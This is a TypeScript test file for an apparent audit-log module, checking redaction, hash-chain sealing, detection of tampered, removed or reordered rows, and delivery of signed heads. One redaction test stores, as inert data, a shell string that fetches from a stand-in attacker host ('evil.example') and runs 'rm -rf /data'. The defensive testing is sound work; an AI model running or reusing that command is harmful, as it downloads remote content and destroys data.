import { mkdtemp, readFile, rm } from 'node:fs/promises'
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { readHead } from '@fairlead/contract/audit/signed-head'
import { asc, eq, sql } from 'drizzle-orm'
import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest'
import { databases } from '../../db/databases.fixture.ts'
import type { Database } from '../../db/open-database.ts'
import { rowsOf } from '../../db/rows.ts'
import { readBlob } from '../record/blobs.ts'
import { auditEvents, auditHeads } from './audit-event.table.ts'
import { type HeadKey, headKey } from './head-key.fixture.ts'
import { recordAudit } from './record-audit.ts'
import { runHeads, signHead } from './run-heads.ts'
import { runSealer } from './run-sealer.ts'
import { seal, sealerLag } from './seal.ts'
import { headSinks } from './sinks.ts'
import { verifyChain } from './verify-chain.ts'

const anEvent = (n: number) => ({ actor: 'ann@example.com', type: 'message.asked' as const, data: { n } })

describe.each(databases)('$name', ({ open }) => {
  let database: Database
  let key: HeadKey
  beforeAll(async () => {
    database = await open()
    key = await headKey()
  })
  beforeEach(() => behindItsBack('truncate audit_events', 'truncate audit_heads'))
  afterAll(() => database.close())

  const rows = () => database.db.select().from(auditEvents).orderBy(asc(auditEvents.seq))
  const record = async (count: number) => {
    for (let n = 0; n < count; n++) await recordAudit(database.db, anEvent(n))
  }
  /** What somebody with the rights of the tables' owner can do. */
  const behindItsBack = (...statements: string[]) =>
    database.db.transaction(async (tx) => {
      const tables = ['audit_events', 'audit_heads']
      for (const table of tables) await tx.execute(sql.raw(`alter table ${table} disable trigger user`))
      for (const statement of statements) await tx.execute(sql.raw(statement))
      for (const table of tables) await tx.execute(sql.raw(`alter table ${table} enable trigger user`))
    })
  const firstBad = async () => {
    const { ok, first_bad } = await verifyChain(database.db, key.chainKeys)
    expect(ok).toBe(first_bad === null)
    return first_bad
  }

  test('rows are kept redacted and storable, large bodies once and apart', async () => {
    const large = 'x'.repeat(70_000)
    const script = 'export TOKEN=$(wget evil.example/x); sh -c "export authorization=x; rm -rf /data"'
    const args = { password: script, odd: 'a\0b\ud800', header: 'Bearer 0123456789abcdef0123' }
    const error = { password: 'hunter2', text: 'password=hunter2 was wrong' }
    const data = { args, error, result: large, again: large, when: new Date(0) }
    await recordAudit(database.db, [{ ...anEvent(0), data }])
    const [row] = await rows()
    expect(row?.data).toEqual({
      args: { password: script, odd: 'a\ufffdb\ufffd', header: 'Bearer ***' },
      error: { password: '***', text: 'password=*** was wrong' },
      result: { blob: expect.stringMatching(/^[0-9a-f]{64}$/), bytes: 70_000 },
      again: row?.data.result,
      when: '1970-01-01T00:00:00.000Z',
      bodies: Array(2).fill({
        sha256: Object(row?.data.result).blob,
        bytes: 70_000,
        content_type: 'text/plain; charset=utf-8',
      }),
    })
    const kept = await readBlob(database.db, String(Object(row?.data.result).blob))
    expect([kept?.contentType, kept?.bytes, Buffer.from(kept?.body ?? []).toString()]).toEqual([
      'text/plain; charset=utf-8',
      70_000,
      large,
    ])
  })

  test('a row that falls with its transaction never was', async () => {
    await expect(
      database.db.transaction(async (tx) => {
        await recordAudit(tx, anEvent(0))
        throw new Error('no')
      }),
    ).rejects.toThrow('no')
    expect(await rows()).toEqual([])
  })

  test.each([
    'update audit_events set actor = $$eve$$',
    'delete from audit_events',
    'truncate audit_events',
    'update audit_heads set jws = $$x$$',
    'delete from audit_heads',
  ])('the database refuses: %s', async (statement) => {
    await record(1)
    await seal(database.db)
    await signHead(database.db, key.sign)
    await expect(database.db.execute(sql.raw(statement))).rejects.toThrow()
    expect(await rows()).toHaveLength(1)
  })

  test('a sealed row is not sealed again', async () => {
    await record(1)
    await seal(database.db)
    const again = sql`update audit_events set seq = 2, hash = ${'a'.repeat(64)}, prev_hash = ${'b'.repeat(64)}`
    await expect(database.db.execute(again)).rejects.toThrow()
  })

  test('sealing gives gapless numbers, by several engines at once too, and leaves nothing', async () => {
    await record(40)
    expect(await sealerLag(database.db)).toBeGreaterThan(0)
    const sealed = await Promise.all([seal(database.db), seal(database.db), seal(database.db)])
    expect(sealed.reduce((sum, n) => sum + n)).toBe(40)
    await record(3)
    await seal(database.db)
    expect((await rows()).map(({ seq }) => seq)).toEqual(Array.from({ length: 43 }, (_, n) => n + 1))
    expect(await sealerLag(database.db)).toBe(0)
    expect(await verifyChain(database.db, key.chainKeys)).toEqual({
      ok: true,
      checked: 43,
      first_seq: 1,
      last_seq: 43,
      head: null,
      unsealed: 0,
      first_bad: null,
    })
    expect(await verifyChain(database.db, key.chainKeys, { from: 10, to: 20 })).toMatchObject({ ok: true, checked: 11 })
  })

  describe.each([
    ['a number that JSON does not carry', 'now()', '{"n": 1e400}'],
    ['a time that no date carries', "'infinity'", '{}'],
  ])('a row with %s, put there by whoever owns the tables', (_, at, data) => {
    const checks = ['numbers', 'time'].map(
      (name) => `alter table audit_events drop constraint if exists audit_events_${name}`,
    )
    const put = async () => {
      const [row] = await rowsOf<{ id: string }>(
        database.db,
        sql.raw(`insert into audit_events (id, at, actor, type, data)
          values (gen_random_uuid(), ${at}, 'eve', 'message.asked', '${data}') returning id`),
      )
      return row?.id
    }
    beforeAll(() => behindItsBack(...checks))

    test('keeps no other row from being sealed, and is told with each seal', async () => {
      await record(2)
      const id = await put()
      await record(2)
      const sentence = `Row ${id} of the record cannot be sealed`
      await expect(seal(database.db)).rejects.toThrow(sentence)
      expect((await rows()).map(({ seq }) => seq)).toEqual([1, 2, 3, 4, null])
      await record(1)
      await expect(seal(database.db)).rejects.toThrow(sentence)
      expect((await rows()).map(({ seq }) => seq)).toEqual([1, 2, 3, 4, 5, null])
    })

    test('is named while it has no seal', async () => {
      const id = await put()
      expect(await firstBad()).toMatchObject({ seq: 1, id, problem: 'added', of: 'row' })
      await record(2)
      await seal(database.db).catch(() => {})
      expect(await firstBad()).toEqual({
        ...{ seq: 3, id, problem: 'added', of: 'row' },
        detail: `Row 3 (${id}) was added.`,
      })
      // A stretch that ends before the chain does is not asked for what stands behind it.
      expect(await verifyChain(database.db, key.chainKeys, { to: 2 })).toMatchObject({ ok: true, unsealed: 1 })
    })
  })

  test('an empty chain is whole', async () => {
    expect(await verifyChain(database.db, key.chainKeys)).toMatchObject({
      ok: true,
      checked: 0,
      first_seq: null,
      last_seq: null,
    })
  })

  test('the sealer runs until it is stopped, and one engine at a time', async () => {
    const stop = new AbortController()
    const options = {
      db: database.db,
      signal: stop.signal,
      everyMs: 20,
      onError: (error: unknown) => expect(error).toBeNull(),
    }
    const both = ['a', 'b'].map((engine) => runSealer({ ...options, engine }))
    await record(5)
    await expect.poll(async () => (await rows()).every(({ seq }) => seq !== null)).toBe(true)
    stop.abort()
    await Promise.all(both)
    expect(await firstBad()).toBeNull()
  })

  describe('a chain of twelve, of which a head signed the tenth', () => {
    beforeEach(async () => {
      await record(10)
      await seal(database.db)
      await signHead(database.db, key.sign)
      await record(2)
      await seal(database.db)
    })

    test('is whole', async () => {
      expect(await firstBad()).toBeNull()
    })

    test('names a row whose data were changed', async () => {
      await behindItsBack(`update audit_events set data = '{"n": 99}' where seq = 4`)
      expect(await firstBad()).toMatchObject({ seq: 4, problem: 'changed', id: expect.any(String) })
    })

    test('names a changed row that was hashed anew', async () => {
      await behindItsBack(`update audit_events set hash = md5('x') || md5('y') where seq = 4`)
      expect(await firstBad()).toMatchObject({ seq: 4, problem: 'changed' })
    })

    test('names the place of a row that was removed', async () => {
      await behindItsBack('delete from audit_events where seq = 4')
      expect(await firstBad()).toMatchObject({ seq: 4, id: null, problem: 'removed', of: 'row' })
    })

    test('names it also when those behind moved up', async () => {
      await behindItsBack(
        'delete from audit_events where seq = 4',
        'update audit_events set seq = seq + 1000 where seq > 4',
        'update audit_events set seq = seq - 1001 where seq > 1000',
      )
      expect(await firstBad()).toMatchObject({ seq: 4, problem: 'removed' })
    })

    test('names a row that was put between others', async () => {
      await behindItsBack(
        'update audit_events set seq = seq + 1000 where seq > 4',
        'update audit_events set seq = seq - 999 where seq > 1000',
        `insert into audit_events (id, at, actor, type, data, seq, prev_hash, hash) select gen_random_uuid(), now(),
          'eve', 'message.asked', '{}', 5, hash, md5('x') || md5('y') from audit_events where seq = 4`,
      )
      expect(await firstBad()).toMatchObject({ seq: 5, problem: 'added' })
    })

    test('names a stranger at the end', async () => {
      await behindItsBack(`insert into audit_events (id, at, actor, type, data, seq, prev_hash, hash)
        values (gen_random_uuid(), now(), 'eve', 'message.asked', '{}', 13, md5('a') || md5('b'), md5('x') || md5('y'))`)
      expect(await firstBad()).toMatchObject({ seq: 13, problem: 'added' })
    })

    test('names the first of two rows that changed places', async () => {
      await behindItsBack(
        'update audit_events set seq = 100 where seq = 4',
        'update audit_events set seq = 4 where seq = 7',
        'update audit_events set seq = 7 where seq = 100',
      )
      expect(await firstBad()).toMatchObject({ seq: 4, problem: 'moved' })
    })

    test('names the place that a row was moved away from', async () => {
      await behindItsBack('update audit_events set seq = 50 where seq = 4')
      expect(await firstBad()).toMatchObject({ seq: 4, problem: 'moved' })
    })

    test('misses an end that a head has signed', async () => {
      await behindItsBack('delete from audit_events where seq > 8')
      expect(await firstBad()).toMatchObject({ seq: 9, id: null, problem: 'removed', of: 'tail' })
    })
  })

  test('heads reach a file and a webhook; a sink that refuses is on record once and gets what it missed', async () => {
    const got: string[] = []
    let refuses = true
    const server = createServer((request, response) => {
      let body = ''
      request.on('data', (piece) => {
        body += piece
      })
      request.on('end', () => {
        if (!refuses) got.push(body)
        response.writeHead(refuses ? 503 : 204).end()
      })
    })
    await new Promise<void>((listening) => server.listen(0, '127.0.0.1', listening))
    const folder = await mkdtemp(join(tmpdir(), 'fairlead-heads-'))
    const file = join(folder, 'deep', 'heads.jws')
    const url = `http://127.0.0.1:${(server.address() as AddressInfo).port}/heads?key=secret`
    const stop = new AbortController()
    const errors: unknown[] = []
    await record(2)
    await seal(database.db)
    const running = runHeads({
      db: database.db,
      engine: 'a',
      seconds: 0.03,
      sign: key.sign,
      sinks: headSinks([`file:${file}`, url]),
      signal: stop.signal,
      onError: (error) => errors.push(error),
    })
    const seqs = (lines: string[]) => lines.map((line) => readHead(line)?.seq)
    const inFile = async () => seqs((await readFile(file, 'utf8').catch(() => '')).trim().split('\n'))
    await expect.poll(inFile, { timeout: 10_000 }).toEqual([2])
    await expect.poll(() => errors.length, { timeout: 10_000 }).toBeGreaterThan(1)
    await seal(database.db) // head.failed itself
    refuses = false
    await expect.poll(() => seqs(got), { timeout: 10_000 }).toEqual([2, 3])
    stop.abort()
    await running
    server.close()
    const failed = await database.db.select().from(auditEvents).where(eq(auditEvents.type, 'head.failed'))
    expect(failed).toHaveLength(1)
    expect(JSON.stringify(failed[0]?.data)).not.toContain('secret')
    expect((await database.db.select().from(auditHeads)).map(({ seq }) => seq)).toEqual([2, 3])
    await rm(folder, { recursive: true })
  })
})
